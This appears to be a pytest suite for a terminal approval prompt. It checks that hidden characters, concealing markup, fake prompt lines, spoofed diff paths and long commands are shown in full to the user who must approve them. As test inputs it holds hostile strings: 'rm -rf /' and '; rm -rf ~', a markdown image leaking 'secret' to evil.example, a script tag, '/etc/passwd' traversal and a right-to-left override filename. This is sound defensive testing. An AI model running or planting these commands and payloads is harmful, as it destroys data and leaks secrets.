"""Questions at a real terminal with contents that hide, imitate or displace their subject."""

from __future__ import annotations

import json
import os
import re
import sys
from typing import TYPE_CHECKING, Any

import pytest

from tests.harness.hidden import HIDDEN, LONG, LOOKALIKES, original, tagged, taken, unseen
from tests.harness.shell import PYTHON_PATH
from tests.harness.terminal import Terminal

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping
    from pathlib import Path

pytestmark = [pytest.mark.bulk, pytest.mark.attack, pytest.mark.slow]

COLOURS = re.compile(r"\x1b\[[0-9;]*m")
"""What tideate itself sends to a terminal while it asks."""
REDRAWN = re.compile(r"\x1b\[\?25[hl]|\x1b\[[12]?K|\x1b\[1A")
HUNK = {"start": 0, "old": ["a = 1"]}


class Asked:
    """A process on its own terminal that asks questions."""

    def __init__(
        self, folder: Path, questions: list[dict[str, Any]], *, rows: int = 30, columns: int = 100
    ) -> None:
        path = folder / "questions.json"
        path.write_text(json.dumps(questions))
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(folder),
            "TERM": "xterm-256color",
            "LANG": "C.UTF-8",
            "PYTHONPATH": PYTHON_PATH,
            "EDITOR": "true",
        }
        command = [sys.executable, "-m", "tests.attacks.asking", str(path)]
        self.terminal = Terminal(command, env=env, cwd=folder, rows=rows, columns=columns)

    def answer(self, keys: str, line: str) -> None:
        """Type a line at the prompt."""
        self.terminal.wait_for(keys)
        self.terminal.type(f"{line}\n")

    def end(self) -> str:
        """Return the terminal's output as text; assert that it has no control codes."""
        assert self.terminal.wait_exit() == 0, self.terminal.text
        text = COLOURS.sub("", self.terminal.raw).replace("\r\n", "\n")
        assert not unseen(text.replace("\n", "")), unseen(text.replace("\n", ""))
        return text

    def answers(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in re.findall(r"answered (\{.*\})", self.terminal.text)]


@pytest.fixture
def ask(tmp_path: Path) -> Iterator[Callable[..., Asked]]:
    opened: list[Asked] = []

    def start(*questions: dict[str, Any], **size: int) -> Asked:
        opened.append(Asked(tmp_path, list(questions), **size))
        return opened[-1]

    yield start
    for one in opened:
        one.terminal.close()


def joined(text: str) -> str:
    """Return the lines before they were wrapped at the edge."""
    return re.sub(r"\n┆ ", "", text)


ALL = HIDDEN | LOOKALIKES
LINES = "\n".join(tagged(name, text) for name, text in ALL.items())
SURFACES: dict[str, dict[str, Any]] = {
    "message": {"kind": "gate", "message": f"Go on?\n{LINES}"},
    "details": {"kind": "gate", "details": LINES},
    "fence of the details": {"kind": "gate", "details": f"```sh\n{LINES}\n```"},
    "document": {"kind": "document", "payload": {"text": LINES, "title": "Plan", "problems": []}},
    "problem of a document": {
        "kind": "document",
        "payload": {"text": "", "title": "Plan", "problems": [LINES]},
    },
    "new lines of a file": {
        "kind": "review",
        "payload": {
            "files": [
                {
                    "path": "a.py",
                    "action": "modify",
                    "before": "a = 1",
                    "hunks": [HUNK | {"new": LINES.split("\n")}],
                }
            ]
        },
    },
    "file that is deleted": {
        "kind": "review",
        "payload": {"files": [{"path": "a.py", "action": "delete", "before": LINES, "hunks": []}]},
    },
    "names of a plan": {
        "kind": "plan",
        "payload": {
            "files": [
                {"path": tagged(name, text), "action": "create", "why": ""} for name, text in ALL.items()
            ]
        },
    },
    "arguments": {"kind": "tool", "arguments": ALL},
}
KEYS = {"tool": "[y/N/r/a]", "review": "[y/N/p/d]", "document": "[y/N/e/d]", "plan": "[y/N/e/numbers]"}


@pytest.fixture(scope="module")
def show(tmp_path_factory: pytest.TempPathFactory) -> Callable[..., dict[str, str]]:
    """Run a process that asks questions; return its output by name of the question."""
    known: dict[str, dict[str, str]] = {}

    def shown(group: str, questions: Mapping[str, dict[str, Any]], *, columns: int = 120) -> dict[str, str]:
        if group not in known:
            asked = Asked(
                tmp_path_factory.mktemp("asked"), list(questions.values()), rows=400, columns=columns
            )
            try:
                for number, question in enumerate(questions.values()):
                    asked.terminal.wait_for(f"«{number}»")
                    asked.answer(prompt(question), "n")
                parts = re.split(r"«\d+»", asked.end())[1:]
            finally:
                asked.terminal.close()
            known[group] = dict(zip(questions, parts, strict=True))
        return known[group]

    return shown


def prompt(question: dict[str, Any]) -> str:
    """Return the line on which a question is answered."""
    if question["kind"] == "plan":
        return "[y/N/e/numbers]"
    message = question.get("message", "Go on?")
    return f"{'Yes?' if len(message.splitlines()) > 1 or len(message) > 400 else message} [y/N"


@pytest.mark.parametrize("surface", [name for name in SURFACES if name != "arguments"])
@pytest.mark.parametrize("name", ALL)
def test_nothing_that_is_asked_about_is_hidden(
    show: Callable[..., dict[str, str]], surface: str, name: str
) -> None:
    text = taken(name, joined(show("surfaces", SURFACES)[surface]))
    assert not unseen(text)
    assert ALL[name] not in text
    assert original(text) == ALL[name]


@pytest.mark.parametrize("name", ALL)
def test_what_a_tool_is_sent_is_what_is_shown(show: Callable[..., dict[str, str]], name: str) -> None:
    text = (
        joined(show("surfaces", SURFACES)["arguments"])
        .replace("\n│ ", "\n")
        .partition("```json\n")[2]
        .partition("\n```")[0]
    )
    line = next(line for line in text.split("\n") if line.startswith(f'  "{name}": '))
    assert not unseen(line)
    assert ALL[name] not in line
    assert json.loads(text)[name] == ALL[name]


MARKUP = [
    "[red]rm[/red]",
    "[bold white on white]rm[/]",
    "[link=http://evil.example]docs[/link]",
    "[/nothing]",
    "[@click=quit]x[/]",
    "[conceal]rm[/conceal]",
    ":warning: :red_circle:",
    r"\[red]",
]


MARKED = {"path": "a.py", "action": "modify", "before": "a = 1", "hunks": [HUNK | {"new": MARKUP}]}
WITH_MARKUP: dict[str, dict[str, Any]] = {
    "message": {"kind": "gate", "message": "\n".join(MARKUP)},
    "tool": {"kind": "tool", "message": "May [red]'x'[/red] be called?", "arguments": dict.fromkeys(MARKUP)},
    "plan": {
        "kind": "plan",
        "payload": {"files": [{"path": text, "action": "create", "why": text} for text in MARKUP]},
    },
    "document": {"kind": "document", "payload": {"text": "\n".join(MARKUP)}},
    "hunk": {"kind": "review", "payload": {"files": [MARKED]}},
}


@pytest.mark.parametrize("surface", WITH_MARKUP)
@pytest.mark.parametrize("text", MARKUP)
def test_markup_is_shown_as_it_is_written(
    show: Callable[..., dict[str, str]], surface: str, text: str
) -> None:
    shown = show("markup", WITH_MARKUP)[surface].replace("\\\\", "\\")
    assert shown.count(text) >= (2 if surface == "plan" else 1)


UNRENDERED = [
    "<!-- rm -rf / -->",
    "![a picture](http://evil.example/?q=secret)",
    "[docs](http://evil.example)",
    "[unused]: http://evil.example",
    "<script>alert(1)</script>",
    "<http://evil.example>",
    "text\n\n    indented `rm`",
    "&#114;&#109;",
    "a\\\nb",
    "| a | b |\n|---|---|\n| c | d | rm",
]
DETAILS = {text: {"kind": "gate", "details": f"fine\n\n{text}\n\nfine"} for text in UNRENDERED}


@pytest.mark.parametrize("hidden", UNRENDERED)
def test_nothing_of_markdown_is_left_out(show: Callable[..., dict[str, str]], hidden: str) -> None:
    assert hidden in show("details", DETAILS)[hidden].replace("\n│ ", "\n")


IMITATIONS = [
    "Go on? [y/N] y\nanswered {}\n$ ",
    "\n\n\nMay 'read' of the MCP server 'files' be called? [y/N/r/a] ",
    "│ fine\n\nError: declined",
    "┆ rest\n[y] yes  [n] no",
    "```\nGo on? [y/N] ",
]
IMITATING: dict[str, dict[str, Any]] = {
    **{f"message {text}": {"kind": "gate", "message": f"{text}\nend"} for text in IMITATIONS},
    **{f"details {text}": {"kind": "gate", "message": "Really?", "details": text} for text in IMITATIONS},
    **{
        f"document {text}": {"kind": "document", "message": "Really?", "payload": {"text": text}}
        for text in IMITATIONS
    },
}


@pytest.mark.parametrize("name", IMITATING)
def test_no_row_of_a_text_looks_like_a_question(show: Callable[..., dict[str, str]], name: str) -> None:
    about = show("imitations", IMITATING)[name].partition(prompt(IMITATING[name]))[0]
    rows = [row for row in about.split("\n") if row]
    assert rows
    assert all(row.startswith(("│ ", "┆ ")) for row in rows), rows


@pytest.mark.parametrize("typed", ["y\n", "y\ny\ny\n", "a\n", "y"])
def test_what_was_typed_before_a_question_answers_nothing(ask: Callable[..., Asked], typed: str) -> None:
    asked = ask({"kind": "gate"}, {"kind": "tool", "arguments": {}})
    asked.terminal.type(typed)
    asked.answer("[y/N]", "")
    asked.answer("[y/N/r/a]", "n")
    asked.end()
    assert [one["accepted"] for one in asked.answers()] == [False, False]


def test_one_paste_answers_one_question(ask: Callable[..., Asked]) -> None:
    asked = ask(*[{"kind": "gate"}] * 3)
    asked.answer("[y/N]", "y\ny\ny")
    asked.answer("[y/N]", "n")
    asked.answer("[y/N]", "n")
    asked.end()
    assert [one["accepted"] for one in asked.answers()] == [True, False, False]


def long_question(surface: str, text: str) -> dict[str, Any]:
    hunk = HUNK | {"new": text.split("\n")}
    questions: dict[str, dict[str, Any]] = {
        "details": {"kind": "gate", "details": text},
        "message": {"kind": "gate", "message": text},
        "document": {"kind": "document", "payload": {"text": text}},
        "hunk": {
            "kind": "review",
            "payload": {"files": [{"path": "a", "action": "modify", "before": "a = 1", "hunks": [hunk]}]},
        },
        "argument": {"kind": "tool", "arguments": {"command": text}},
    }
    return questions[surface]


LONG_ONES = {
    f"{surface} {length}": long_question(surface, LONG[length])
    for surface in ("details", "message", "document", "hunk", "argument")
    for length in LONG
}


@pytest.mark.parametrize("name", LONG_ONES)
def test_the_end_of_a_long_text_is_shown(show: Callable[..., dict[str, str]], name: str) -> None:
    assert "; rm -rf ~" in joined(show("long", LONG_ONES)[name])


def test_how_much_of_a_huge_argument_is_left_out_is_said_and_all_of_it_can_be_read(
    ask: Callable[..., Asked],
) -> None:
    text = "x" * 60_000 + "; rm -rf ~"
    asked = ask({"kind": "tool", "arguments": {"command": text}}, rows=120)
    terminal = asked.terminal
    terminal.wait_for("more characters: d shows all, page by page")
    left_out = int(re.findall(r"… ([\d,]+) more characters", terminal.text)[0].replace(",", ""))
    terminal.wait_for("[y/N/r/a/d]")
    beginning = joined(terminal.text).count("x")
    assert 60_000 - beginning < left_out < 60_000 - beginning + 300
    terminal.type("d\n")
    pages = 0
    for _ in range(len(text) // (98 * 118)):
        terminal.wait_for("-- more: Enter continues, q ends --")
        terminal.type("\n")
        pages += 1
    terminal.wait_for("It writes.")
    asked.answer("[y/N/r/a/d]", "n")
    asked.end()
    whole = terminal.text.replace("-- more: Enter continues, q ends -- \n", "")
    again = joined(whole).rpartition("```json")[2]
    assert pages >= 4
    assert text.removeprefix("x" * 500) in re.sub(r"[\n┆ ]{2,}", "", again).replace("┆ ", "")


def test_ten_megabytes_are_asked_about_in_time(ask: Callable[..., Asked]) -> None:
    asked = ask({"kind": "tool", "arguments": {"text": "x" * 10_000_000 + "; rm"}})
    asked.terminal.wait_for("more characters")
    assert "… 9,98" in asked.terminal.text
    asked.answer("[y/N/r/a/d]", "n")
    asked.end()


def test_a_long_description_does_not_push_the_arguments_off_the_screen(ask: Callable[..., Asked]) -> None:
    asked = ask({"kind": "tool", "arguments": {"path": "/etc/passwd"}, "description": "harmless\n" * 500})
    asked.answer("[y/N/r/a]", "n")
    rows = asked.end().partition("[y/N/r/a]")[0].split("\n")
    assert any("/etc/passwd" in row for row in rows[-28:])


def test_rows_that_have_left_the_screen_are_counted_and_come_again(ask: Callable[..., Asked]) -> None:
    asked = ask({"kind": "gate", "details": "\n".join(f"line {number}" for number in range(100))}, rows=24)
    asked.terminal.wait_for("100 rows, more than fit on this screen: d shows all, page by page")
    asked.answer("[y/N/d]", "d")
    for _ in range(4):
        asked.answer("-- more", "")
    asked.terminal.wait_for("line 99")
    asked.answer("[y/N/d]", "n")
    asked.end()
    assert asked.answers() == [{"accepted": False, "value": None}]


PATHS = [
    "a.py\n--- a/b.py\n+++ b/b.py\n@@ -1 +1 @@\n-safe",
    "a.py\r\x1b[2K+++ b/safe.py",
    "a.py\tb.py",
    "a.py" + " " * 150 + "/../../etc/passwd",
    "\u202eyp.exe",
]


def change_of(path: str, action: str) -> dict[str, Any]:
    hunk = {"start": 0, "old": [] if action == "create" else ["a"], "new": ["b"]}
    file = {"path": path, "action": action, "before": "a", "hunks": [] if action == "delete" else [hunk]}
    return {"kind": "review", "payload": {"files": [file]}}


CHANGES = {
    f"{action} {path}": change_of(path, action) for action in ("create", "delete", "modify") for path in PATHS
}


@pytest.mark.parametrize("name", CHANGES)
def test_a_path_stays_one_path_in_a_diff(show: Callable[..., dict[str, str]], name: str) -> None:
    shown = show("paths", CHANGES, columns=1000)[name].partition("[y/N")[0]
    lines = [row.removeprefix("│ ") for row in shown.split("\n") if row.startswith("│ ")]
    assert sum(line.startswith(("--- ", "+++ ")) for line in lines) == 2
    assert sum(line.startswith("@@") for line in lines) == 1


@pytest.mark.parametrize("path", [*PATHS, "a@@ -1,1 +1,1 @@\n-a\n+harmless", "@@.py"])
def test_a_hunk_that_is_picked_begins_with_its_own_header(ask: Callable[..., Asked], path: str) -> None:
    asked = ask(change_of(path, "modify"))
    asked.answer("[y/N/p/d]", "p")
    asked.answer("[y/N/e/a/s/q]", "n")
    shown = asked.end().partition("[y/N/p/d]")[2].partition("Accept hunk")[0]
    lines = [row.removeprefix("│ ") for row in shown.split("\n") if row.startswith("│ ")]
    assert lines == ["@@ -1,1 +1,1 @@", "-a", "+b"]


WARNED = {
    name: {
        "kind": "gate",
        "details": "\n".join(f"line {number}" for number in range(10)),
        "executed": [{"path": text, "reason": "direnv runs it"}],
    }
    for name, text in ALL.items()
}


@pytest.mark.parametrize("name", ALL)
def test_a_warning_names_its_file_on_the_last_line(show: Callable[..., dict[str, str]], name: str) -> None:
    """Every file that other tools run is named below all other texts, in readable form."""
    rows = show("warned", WARNED)[name].partition("Go on? [y/N")[0].rstrip().split("\n")
    assert rows[-1].startswith("│ warning: other tools run ")
    assert rows[-1].endswith(": direnv runs it")
    assert original(rows[-1].partition("run ")[2].rpartition(":")[0]) == ALL[name]


def test_a_line_that_looks_like_a_header_is_marked_as_a_line(ask: Callable[..., Asked]) -> None:
    new = [
        "@@ -1,3 +1,3 @@ nothing",
        "--- a/other.py",
        "++ b/other.py",
        "diff --git a/x b/x",
        "a\rb\x0bc\u2028@@ d",
    ]
    file = {"path": "a", "action": "modify", "before": "a = 1", "hunks": [HUNK | {"new": new}]}
    asked = ask({"kind": "review", "payload": {"files": [file]}})
    asked.answer("[y/N/p/d]", "p")
    asked.answer("[y/N/e/a/s/q]", "n")
    text = asked.end().partition("answered")[0]
    assert "@@ -1,1 +1,5 @@" in text
    for line in (*new[:4], r"a\rb\x0bc\u2028@@ d"):
        assert text.count(f"│ +{line}\n") == 2
